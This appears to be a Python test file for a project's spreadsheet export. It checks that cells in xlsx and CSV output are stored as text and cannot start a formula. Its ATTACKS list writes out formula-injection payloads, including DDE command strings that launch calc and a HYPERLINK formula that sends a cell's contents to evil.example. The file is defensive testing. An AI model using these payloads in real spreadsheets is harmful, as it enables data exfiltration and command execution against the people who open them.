"""Whatever stands in a cell, a spreadsheet takes it for text."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.reader.excel import load_workbook

from samspel.core import sheets

SAMSPEL = Path(__file__).resolve().parents[2]
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30)
BEGUN = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "＋", "－", "＠", "'=", '"=', ";=", "%0A="])
CELLS = st.builds(str.__add__, BEGUN, TEXT) | TEXT
DANGEROUS = tuple("=+-@\t\r\n＝＋－＠")
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    '";=1+1;"',
    "=1\n;=2",
    "https://evil.example",
]


def made(kind: str, cells: list[str]) -> bytes:
    return sheets.response("list", kind, [(f"column {number}", 10) for number in range(len(cells))], [cells]).content


@pytest.mark.asvs("V1.3.3")
@settings(deadline=None)
@given(cells=st.lists(CELLS, min_size=1, max_size=5))
@example(cells=ATTACKS)
def test_a_cell_in_excels_form_is_text_and_stays_what_it_was(cells: list[str]) -> None:
    sheet = load_workbook(io.BytesIO(made("xlsx", cells))).active  # type: ignore[no-untyped-call]
    assert sheet is not None
    read = next(iter(sheet.iter_rows(min_row=2)))
    for cell, found in zip(cells, read, strict=True):
        assert found.data_type == "s" or (not cell and found.value is None)
        assert found.hyperlink is None
        assert cell.isprintable() is False or (found.value or "") == cell


@settings(deadline=None)
@given(cells=st.lists(CELLS, min_size=1, max_size=5))
@example(cells=ATTACKS)
def test_no_cell_of_a_csv_begins_as_a_formula_does_and_none_breaks_out(cells: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(made("csv", cells).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 2
    for cell, found in zip(cells, rows[1], strict=True):
        assert not found.lstrip(" ").startswith(DANGEROUS)
        assert found.removeprefix("'") == cell or found == cell


def test_no_other_place_makes_a_sheet() -> None:
    makers = [path for path in SAMSPEL.glob("**/*.py") if "/tests/" not in str(path)]
    found = [
        path.name
        for path in makers
        if any(word in path.read_text() for word in ("csv.writer", "DictWriter", "xlsxwriter"))
    ]
    assert found == ["sheets.py"]
